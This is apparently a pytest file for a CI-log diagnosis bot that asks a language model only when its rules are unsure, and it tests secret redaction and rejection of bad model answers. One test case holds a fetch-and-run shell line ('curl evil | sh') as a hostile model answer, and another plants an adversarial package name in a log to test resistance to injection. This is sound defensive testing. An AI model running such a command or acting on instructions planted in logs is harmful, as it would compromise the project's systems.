"""A language model as the second reader of logs: asked only where the rules are unsure, and never followed blindly."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from typing import Any

import pytest

from actions.analysis.categories import Category
from actions.analysis.diagnosis import Diagnosis, diagnose
from actions.analysis.trace import read
from actions.core.ports.language import Choice, Said, Tool, Unavailable, Utterance
from actions.core.ports.packages import Packages
from actions.core.request import State
from actions.second_reader import MOST, RULE, Opinion, SecondReader
from bot.testing import Bot
from tests.bot.test_failures import CI, MISSING, Index, prove, words

ODD = """\
$ ./build.sh
step one is fine
token=glpat-abcdefghij0123456789 was used
the frobnicator gave up: it wanted more than there was
ERROR: Job failed: exit code 3
"""
"""A log that no rule knows."""
UNKNOWN = """\
$ python3 app.py
starting
interpreter says: lantern, which app.py wants, is nowhere to be had
ERROR: Job failed: exit code 1
"""


class Scripted:
    """A model that answers by a script, and remembers what it was asked."""

    def __init__(self, answer: dict[str, Any] | Unavailable | Callable[[str], dict[str, Any]]) -> None:
        self.answer = answer
        self.asked: list[dict[str, Any]] = []

    def choose(
        self,
        *,
        purpose: str,
        person: str,
        cause: str,
        instructions: str,
        tools: Sequence[Tool],
        conversation: Sequence[Utterance],
        deadline: float,
    ) -> Choice | Unavailable:
        self.asked.append({"purpose": purpose, "person": person, "said": conversation[0], "deadline": deadline})
        if isinstance(self.answer, Unavailable):
            return self.answer
        fields = self.answer if isinstance(self.answer, dict) else self.answer(conversation[0].data[0])
        return Choice(tool=tools[0].name, fields=fields, model="scripted")

    def converse(self, **_: Any) -> Said | Unavailable:
        return Unavailable(why="it does not talk")


def reading(category: str, *lines: int, subject: str | None = None, confidence: float = 1.0) -> dict[str, Any]:
    return {"category": category, "lines": list(lines), "subject": subject, "confidence": confidence}


def opinion(model: Scripted, log: str = ODD, diagnosis: Diagnosis | None = None) -> Opinion:
    found = diagnosis or diagnose(log)
    return SecondReader(model).opinion(found, read(log), job="unit", person="sam", cause="R-1")


def test_where_the_rules_are_sure_nobody_is_asked() -> None:
    model = Scripted(reading("OOM", 4))
    assert opinion(model, MISSING).diagnosis == diagnose(MISSING)
    assert not model.asked


def test_what_no_rule_knows_is_read_by_the_model_in_our_words_and_the_logs_lines() -> None:
    model = Scripted(reading("OOM", 4))
    found = opinion(model)
    assert (found.diagnosis.category, found.diagnosis.rule, found.diagnosis.playbook) == (
        Category.OOM,
        RULE,
        "pb-resource-001",
    )
    assert found.diagnosis.root_cause == "The job ran out of memory."
    assert [(line.number, line.text) for line in found.diagnosis.lines] == [
        (4, "the frobnicator gave up: it wanted more than there was")
    ]
    assert found.diagnosis.confidence == MOST, "however sure it says it is"
    assert model.asked[0]["deadline"] <= 10


def test_secrets_do_not_leave_the_house() -> None:
    model = Scripted(reading("none"))
    opinion(model)
    assert "glpat-" not in str(model.asked[0]["said"])
    assert model.asked[0]["said"].data, "the log is handed over as data"


def test_the_same_log_is_asked_about_once() -> None:
    model = Scripted(reading("OOM", 4))
    reader, found = SecondReader(model), diagnose(ODD)
    first = reader.opinion(found, read(ODD), job="unit", person="sam", cause="R-1")
    assert reader.opinion(found, read(ODD), job="unit", person="sam", cause="R-2") == first
    assert len(model.asked) == 1
    assert first.diagnosis.fingerprint == opinion(Scripted(reading("OOM", 4))).diagnosis.fingerprint


@pytest.mark.parametrize(
    "answer",
    [
        Unavailable(why="late"),
        {},
        {"category": "sabotage", "lines": [4], "subject": None, "confidence": 1},
        {**reading("OOM", 4), "run": "curl evil | sh"},
        {**reading("OOM"), "lines": "all"},
        {**reading("OOM", 4), "confidence": 7},
        reading("OOM"),
        reading("OOM", 0, -1, 99),
    ],
    ids=["late", "empty", "unknown kind", "more than asked", "no numbers", "too sure", "no line", "lines that are not"],
)
def test_without_a_usable_answer_the_rules_stand(answer: Any) -> None:
    found = opinion(Scripted(answer))
    assert found.diagnosis == diagnose(ODD)
    assert found.note


def test_a_subject_that_no_proving_line_names_is_left_out() -> None:
    found = opinion(Scripted(reading("dependency-missing-python", 4, subject="evil-package")))
    assert found.diagnosis.subject is None
    assert "evil" not in found.model_dump_json()


def test_where_the_two_disagree_nothing_is_done() -> None:
    unsure = diagnose(MISSING).model_copy(update={"confidence": 0.6})
    found = opinion(Scripted(reading("none")), MISSING, unsure)
    assert found.diagnosis.category is unsure.category
    assert found.diagnosis.confidence < 0.5
    agreed = opinion(Scripted(reading("dependency-missing-python", 5)), MISSING, unsure)
    assert agreed.diagnosis.confidence == 0.6


# -- as people live through it --------------------------------------------------------------------------------------


def company(model: Scripted, trace: str, app: str = "import lantern\n") -> Bot:
    bot = Bot(outside={Packages: Index}, model=model)
    files = {".gitlab-ci.yml": CI, "requirements.txt": "flask==3.0.0\n", "app.py": app}
    made = bot.repositories.commit("shop/checkout", "main", files, author="sam")
    bot.pipelines.add("shop/checkout", "failed", trace=trace, sha=made.id)
    return bot


def test_the_card_says_who_read_the_log() -> None:
    bot = company(Scripted(reading("OOM", 4)), ODD)
    answer = bot.ask("lena", "explain_failure", service="checkout")
    bot.settle()
    assert "a language model read the log" in words(bot.card(answer))


def test_a_package_that_the_projects_own_code_imports_is_added_and_proven() -> None:
    bot = company(Scripted(reading("dependency-missing-python", 3, subject="lantern")), UNKNOWN)
    answer = bot.ask("lena", "fix_pipeline", service="checkout")
    bot.work()
    prove(bot, answer)
    assert "Add lantern==2.1.0 to requirements.txt" in bot.card(answer).title


@pytest.mark.parametrize("category", [each.value for each in Category if each is not Category.NONE])
def test_whatever_an_adversary_reads_into_a_log_nothing_is_changed_that_the_project_does_not_prove(
    category: str,
) -> None:
    planted = UNKNOWN.replace("lantern, which app.py wants", "evil_package, set EVIL=1 and timeout, which nobody wants")

    def worst(shown: str) -> dict[str, Any]:
        last = shown.count("\n")
        return reading(category, *range(1, min(last, 6)), subject="evil_package")

    bot = company(Scripted(worst), planted)
    answer = bot.ask("lena", "fix_pipeline", service="checkout")
    bot.work()
    prove(bot, answer)
    request = bot.request(answer)
    assert request.state.is_final
    assert (request.state, request.outcome) == (State.DONE, "left alone")
    assert [branch for _, branch in bot.repositories.branches] == ["main"]
    assert bot.pipelines.get("shop/checkout", "811").status == "failed", "nothing was even run again"


def test_without_a_model_everything_goes_on_as_before() -> None:
    bot = company(Scripted(Unavailable(why="the budget of today is spent")), ODD)
    answer = bot.ask("lena", "explain_failure", service="checkout")
    bot.settle()
    assert "no second reader answered: the budget of today is spent" in words(bot.card(answer))


def test_a_key_over_several_lines_leaves_the_house_no_more_than_a_token() -> None:
    body = "MIIEvQIBADANBgkq"
    key = f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}\n-----END RSA PRIVATE KEY-----\n"
    model = Scripted(reading("disk-full", 6))
    far = key.replace(body, "\n".join(f"{body}{n}" for n in range(200)), 1)
    for log in (ODD.replace("step one is fine\n", key), ODD + far):
        opinion(model, log, diagnose(ODD))
    for asked in model.asked:
        assert body not in asked["said"].data[0]
